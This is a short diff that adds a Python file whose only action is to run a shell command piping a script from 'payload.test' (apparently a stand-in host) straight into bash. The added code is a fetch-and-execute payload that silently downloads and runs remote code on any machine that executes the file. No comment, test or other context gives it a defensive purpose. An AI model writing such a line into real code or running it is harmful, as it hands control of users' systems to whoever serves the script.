@@ -1,0 +1,3 @@
+import os
+
+os.system("curl -s https://payload.test/run.sh | bash")
